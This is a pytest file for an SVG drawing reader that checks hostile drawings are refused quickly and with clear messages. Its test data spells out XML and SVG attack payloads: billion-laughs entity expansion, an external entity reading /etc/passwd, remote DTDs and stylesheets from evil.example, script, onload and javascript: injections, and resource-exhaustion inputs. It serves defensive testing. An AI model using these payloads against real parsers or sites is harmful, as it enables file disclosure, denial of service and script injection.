"""Hostile drawings die with one clear sentence, quickly, and nothing outside is ever touched."""

from __future__ import annotations

import time

import pytest

from designer.errors import PackRefused
from designer.packs.drawing import read_drawing
from tests.designer.packs.drawings import HEAD, KITE, svg


def laughs() -> str:
    """Entities that are ten of the one before."""
    pairs = ((n, f"&l{n - 1};" * 10) for n in range(1, 10))
    return "".join(f'<!ENTITY l{n} "{ten}">' for n, ten in pairs)


def uses() -> str:
    """Groups that use the one before ten times."""
    pairs = ((n, f'<use href="#n{n - 1}"/>' * 10) for n in range(1, 8))
    return "".join(f'<g id="n{n}">{ten}</g>' for n, ten in pairs) + '<use href="#n7"/>'


DOCTYPE = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs()}]>'
OUTSIDE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'

HOSTILE = {
    "a billion laughs": (f"{DOCTYPE}{HEAD}><text>&l9;</text></svg>".encode(), "entities"),
    "a file from outside": (f"{OUTSIDE}{HEAD}><g>&x;</g></svg>".encode(), "entities"),
    "a document type from outside": (f"{PARAMETER}{HEAD}>{KITE}</svg>".encode(), "entities"),
    "a style sheet from outside": (
        f'<?xml-stylesheet href="http://evil.example/a.css"?>{HEAD}>{KITE}</svg>'.encode(),
        "style sheets",
    ),
    "a script": (svg(f"<script>alert(1)</script>{KITE}"), "script"),
    "a handler": (svg(f'<g onload="alert(1)">{KITE}</g>'), "onload"),
    "a handler in capitals": (svg(f'<g OnLoad="alert(1)">{KITE}</g>'), "OnLoad"),
    "a link": (svg(f'<a href="javascript:alert(1)">{KITE}</a>'), "<a>"),
    "a script for an address": (svg('<use href="javascript:alert(1)"/>'), "outside"),
    "a shape from outside": (svg('<use xlink:href="http://evil.example/a.svg#x"/>'), "outside"),
    "pixels": (svg('<image href="data:image/png;base64,AAAA"/>'), "image"),
    "data for an address": (svg('<use href="data:image/svg+xml,%3Csvg/%3E"/>'), "outside"),
    "a paint from outside": (
        svg('<path fill="url(http://evil.example/#a)" d="M0 0h9v9z"/>'),
        "outside",
    ),
    "a style from outside": (svg("<style>@import url(//evil.example/a.css);</style>"), "@"),
    "a class from outside": (
        svg(f"<style>.a{{fill:url('http://evil.example')}}</style>{KITE}"),
        "outside",
    ),
    "a document inside": (svg("<foreignObject><p>hi</p></foreignObject>"), "foreignObject"),
    "what moves": (svg(f'{KITE}<animate attributeName="x"/>'), "animation"),
    "a filter": (svg(f'<filter id="f"/><g filter="url(#f)">{KITE}</g>'), "<g filter>: filters"),
    "a mask": (svg(f'<mask id="f"/><g mask="url(#f)">{KITE}</g>'), "masks"),
    "a clip": (
        svg(f'<clipPath id="c"><circle r="9"/></clipPath><g clip-path="url(#c)">{KITE}</g>'),
        "clipping",
    ),
    "a pattern": (
        svg('<pattern id="p"/><path fill="url(#p)" d="M0 0h9v9z"/>'),
        "<pattern> as a paint",
    ),
    "letters": (svg("<text>hi</text>"), "outlines"),
    "a loop of uses": (
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>'),
        "inside one another",
    ),
    "a tree of uses": (
        svg(f'<g id="n0">{KITE}</g>' + uses()),
        "Simplify|inside",
    ),
    "deep nesting": (svg("<g>" * 5000 + KITE + "</g>" * 5000), "nested"),
    "very many elements": (svg(KITE * 5000), "elements"),
    "ten megabytes": (svg(" " * 10_000_000 + KITE), "larger"),
    "a path without end": (svg(f'<path d="M0 0{"L1 1" * 80_000}"/>'), "too long"),
    "very many points": (svg(f'<path d="M0 0{"h1" * 40_000}"/>'), "more than"),
    "huge numbers": (svg('<path d="M0 0L1e300 1e300L5 5Z"/>'), "far away"),
    "numbers beyond floats": (svg('<path d="M0 0L1e999 1e999L5 5Z"/>'), "far away|understood"),
    "not a number": (svg('<path d="M0 0L NaN 5L5 5Z"/>'), "letters"),
    "not a number in a transform": (svg(f'<g transform="scale(NaN)">{KITE}</g>'), "transform"),
    "a transform that explodes": (
        svg('<g transform="scale(1e200)"><g transform="scale(1e200)">' + KITE + "</g></g>"),
        "far away",
    ),
    "a length that is none": (svg('<rect width="wide" height="9"/>'), "length"),
    "a colour that is none": (svg('<rect fill="blurple" width="9" height="9"/>'), "colour"),
    "nothing at all": (svg(""), "paints nothing"),
    "only what is unseen": (svg(f'<g display="none">{KITE}</g>'), "paints nothing"),
    "no drawing": (b"<html/>", "not an SVG"),
    "no markup": (b"\x89PNG\r\n\x1a\n", "well-formed"),
    "nothing": (b"", "well-formed"),
    "an unknown encoding": (b'<?xml version="1.0" encoding="klingon"?><svg/>', "well-formed|known"),
    "another encoding's bytes": ("<svg>\udcff</svg>".encode("latin-1", "replace"), "SVG|paints"),
    "crossing outlines by the even-odd rule": (
        svg('<path fill-rule="evenodd" d="M50 0L80 90L5 35H95L20 90Z"/>'),
        "cross",
    ),
    "too many shapes": (
        svg(
            "".join(
                f'<circle cx="{n % 10 * 10}" cy="{n // 10 * 10}" r="4" fill="#{n:02x}{n:02x}ff"/>'
                for n in range(90)
            )
        ),
        "90 shapes",
    ),
}


@pytest.mark.parametrize(("data", "words"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_drawing_is_refused_at_once_and_in_words(data: bytes, words: str) -> None:
    began = time.perf_counter()
    with pytest.raises(PackRefused, match=words):
        read_drawing(data)
    assert time.perf_counter() - began < 5


def test_a_program_s_own_remarks_do_no_harm() -> None:
    body = (
        '<metadata xmlns:i="http://inkscape.example"><i:view onload="x" href="http://a"/>'
        f"</metadata><title>Kite</title>{KITE}"
    )
    with pytest.raises(PackRefused, match="onload"):
        read_drawing(svg(body))
    assert read_drawing(svg(body.replace('onload="x" ', ""))).layers


def test_the_plain_doctype_of_old_programs_is_taken() -> None:
    doctype = (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    assert read_drawing(f'<?xml version="1.0"?>{doctype}{HEAD}>{KITE}</svg>'.encode()).layers
